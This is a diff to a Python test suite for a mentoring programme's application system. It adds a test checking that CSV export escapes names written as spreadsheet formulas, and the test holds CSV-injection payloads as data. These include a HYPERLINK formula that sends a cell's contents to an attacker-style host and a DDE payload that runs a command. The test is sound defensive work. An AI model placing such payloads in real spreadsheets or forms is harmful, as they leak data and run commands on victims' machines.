@@ -5,7 +5,7 @@ import io
 import json
 import os
 
-from common import ProgrammeTest, mail, of_kind, reply
+from common import ProgrammeTest, form, mail, of_kind, reply
 
 PEOPLE = [
     ("anna@example.org", "mentor", "Anna Keller", "IT", "Software", "en"),
@@ -36,6 +36,22 @@ class Privacy(ProgrammeTest):
         self.assertEqual(data["cases"], [])
         r = self.env.run("export", "--format", "xml")
         self.assertEqual(r.returncode, 2)
+
+    def test_csv_cells_are_never_formulas(self):
+        """A name written as a formula reached the CSV as it came: a
+        spreadsheet would run it (OWASP: CSV injection)."""
+        evil = [("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "eve@example.org"),
+                ("+cmd|' /C calc'!A0", "fay@example.org"),
+                ("-2+3", "gil@example.org"), ("@SUM(1+1)", "hal@example.org")]
+        self.deliver(*[mail(a, "apply", form("mentee", n, "IT", "Software")) for n, a in evil], now=NOW)
+        self.deliver(*[reply(self.latest("confirm-request", a), a, "yes") for _, a in evil], now=NOW)
+        rows = list(csv.DictReader(io.StringIO(self.cli("export", now=NOW))))
+        names = {r["address"]: r["name"] for r in rows}
+        for name, address in evil:
+            self.assertEqual(names[address], "'" + name)
+        # JSON keeps the name as it is
+        data = json.loads(self.cli("export", "--format", "json", "--person", "eve@example.org", now=NOW))
+        self.assertEqual(data["applications"][0]["name"], evil[0][0])
 
     def test_forget_me_by_email_needs_confirmation(self):
         env = self.env
